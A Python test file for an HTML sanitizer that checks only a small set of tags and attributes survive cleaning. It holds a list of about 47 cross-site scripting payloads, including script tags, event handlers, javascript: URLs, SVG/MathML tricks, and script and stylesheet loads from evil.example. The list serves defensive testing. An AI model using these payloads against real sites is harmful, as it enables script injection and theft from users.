"""What is kept of HTML."""

import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from richtext.joiners import JOINERS, is_tag
from richtext.notation import from_notation
from richtext.passages import (
    clean,
    swept,
)
from richtext.tokens import parse, written
from tests.richtext.passages import any_html, any_text

KEPT = {
    **dict.fromkeys(("p", "ul", "li", "strong", "em", "blockquote"), frozenset()),
    "ol": {"start"},
    "a": {"href", "data-section"},
    "data": {"data-figure"},
    "span": {"data-plain"},
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<<SCRIPT>alert('x');//<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=x>",
    "<IMG SRC=javascript:alert('x')>",
    '<IMG SRC=`javascript:alert("x")`>',
    '<IMG """><SCRIPT>alert("x")</SCRIPT>"\\>',
    '<IMG SRC="jav&#x09;ascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://x.example" onclick="alert(1)" style="color:red">x</a>',
    '<a href="https://x.example/&quot; onmouseover=&quot;alert(1)">x</a>',
    '<a data-section="x&quot; onclick=&quot;alert(1)">x</a>',
    '<data data-figure="x&quot;><script>alert(1)</script>">4</data>',
    '<span data-plain="" style="background:url(javascript:alert(1))">4</span>',
    '<p style="x:expression(alert(1))" onmouseover=alert(1) class=a id=b>x</p>',
    "<style>@import'https://evil.example/x.css';</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<body onload=alert(1)><details open ontoggle=alert(1)>x</details>",
    '<form action="javascript:alert(1)"><button formaction=javascript:alert(1)>x',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "[x](javascript:alert(1))",
    '[x](https://x.example/"onclick="alert(1))',
    '[[x"onclick=alert(1)]] [[section:x|<img src=x onerror=alert(1)>]]',
    "{{<script>alert(1)</script>}}",
]


class _Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_in_subset(html: str) -> None:
    for tag, attributes in _Tags(html).found:
        assert set(attributes) <= KEPT[tag]
        href = attributes.get("href") or "https://"
        assert re.match(r"https?://|mailto:|tel:", href, re.IGNORECASE)


def assert_safe(html: str) -> None:
    assert_in_subset(html)
    # Only the markup: a payload may stay as words that a browser shows.
    markup = " ".join(re.findall(r"<[^>]*>", html)).lower()
    for mark in ("<script", "javascript:", "data:text", "style"):
        assert mark not in markup
    assert not re.search(r"\son\w+\s*=", markup)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_leaves_markup_outside_the_subset(payload):
    assert_safe(clean(payload))
    assert_safe(clean(f"<ul><li><strong>{payload}"))
    assert_safe(from_notation(payload))
    assert_safe(from_notation(f"- **a {payload} b**"))


@given(st.sampled_from(PAYLOADS), st.sampled_from(PAYLOADS), st.data())
def test_no_payload_cut_in_two_leaves_markup_outside_the_subset(one, other, data):
    at = data.draw(st.integers(0, len(one)))
    mixed = one[:at] + other + one[at:]
    assert_in_subset(clean(mixed))
    assert_in_subset(from_notation(mixed))


@given(any_html() | any_text() | st.text())
def test_cleaning_twice_changes_nothing(html):
    once = clean(html)
    assert clean(once) == once


@given(any_html() | any_text() | st.text())
def test_sweeping_changes_nothing_in_clean_html(html):
    assert swept(clean(html)) == clean(html)


@given(any_html() | any_text())
def test_what_is_kept_is_legible(html):
    kept = clean(html)
    unwanted = {"Cc", "Cf", "Cs"}
    assert unicodedata.is_normalized("NFC", kept)
    assert not [
        char
        for char in kept
        if unicodedata.category(char) in unwanted
        and char not in ("\n", *JOINERS)
        and not is_tag(char)
    ]
    assert_in_subset(kept)


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("", ""),
        ("<p> </p><p>&#8203;</p><ul><li></li></ul>", ""),
        ("<p>One paragraph.</p>", "<p>One paragraph.</p>"),
        ("loose <b>words</b>", "<p>loose <strong>words</strong></p>"),
        ("<p>One</p><p></p><p>two</p>", "<p>One</p>\n<p>two</p>"),
        ("<h2>Title</h2><div>text<br>more</div>", "<p>Title</p>\n<p>text more</p>"),
        ("<p>a<strong> b </strong>c</p>", "<p>a <strong>b</strong> c</p>"),
        ("<p>5 &lt; 6 &amp; 7</p>", "<p>5 &lt; 6 &amp; 7</p>"),
        ("<p>e\u0301\u202e\u200b\u00ad</p>", "<p>\u00e9</p>"),
        ("<em><strong>a</strong></em>", "<p><em><strong>a</strong></em></p>"),
        ("<strong><em>a</em></strong>", "<p><em><strong>a</strong></em></p>"),
        (
            "<strong>a <em>b</em></strong><em> c</em>",
            "<p><strong>a <em>b</em></strong><em> c</em></p>",
        ),
        (
            "<ul><li>a<ol start=3><li>b</ol><li><p>c</p><p>d</p></ul>",
            '<ul>\n<li>a\n<ol start="3">\n<li>b</li>\n</ol>\n</li>\n'
            "<li>c d</li>\n</ul>",
        ),
        (
            "<ul><li>a</ul><ul><li>b<ul><li>c<ul><li>d</ul></ul></ul>",
            "<ul>\n<li>a</li>\n<li>b\n<ul>\n<li>c</li>\n<li>d</li>\n</ul>\n</li>\n</ul>",
        ),
        ("<ul><li><ol><li>a</ol></ul>", "<ol>\n<li>a</li>\n</ol>"),
        (
            "<blockquote>a<ul><li>b</ul></blockquote><blockquote>c</blockquote>d",
            "<blockquote>\n<p>a</p>\n<ul>\n<li>b</li>\n</ul>\n</blockquote>\n"
            "<blockquote>\n<p>c</p>\n</blockquote>\n<p>d</p>",
        ),
        (
            '<data data-figure="a/b-c/2023-24">4,531</data>',
            '<p><data data-figure="a/b-c/2023-24"></data></p>',
        ),
        ("<data data-figure='not one'>4,531</data>", "<p>4,531</p>"),
        (
            '<a data-section="training" href="https://x.example">see</a>',
            '<p><a data-section="training">see</a></p>',
        ),
        (
            '<p><a data-section="x"></a> and <span data-plain>s <b>42</b></span></p>',
            '<p><a data-section="x"></a> and <span data-plain="">s</span> '
            '<strong><span data-plain="">42</span></strong></p>',
        ),
        (
            '<a href="https://x.example/A_(b) c?d=1&e=2" target=_blank rel=x>x</a>',
            '<p><a href="https://x.example/A_%28b%29%20c?d=1&amp;e=2">x</a></p>',
        ),
        ('<a href="/x">x</a> <a href="https://x.example"></a>', "<p>x</p>"),
    ],
)
def test_html_is_kept_in_one_way(html, kept):
    assert clean(html) == kept


def test_a_link_to_a_telephone_number_is_kept_and_one_to_no_number_is_not():
    html = '<p><a href="tel:+441942828777">Ring us</a> or <a href="tel:999">999</a></p>'

    assert clean(html) == html
    assert swept(html) == html
    assert clean('<p><a href="tel:us">Ring us</a></p>') == "<p>Ring us</p>"


@given(any_html())
def test_what_is_parsed_is_written_as_it_was(html):
    kept = clean(html)

    assert written(parse(kept)) == kept


def test_a_thousand_nested_tags_are_read():
    assert clean("<b><i>" * 2000 + "x") == "<p><em><strong>x</strong></em></p>"
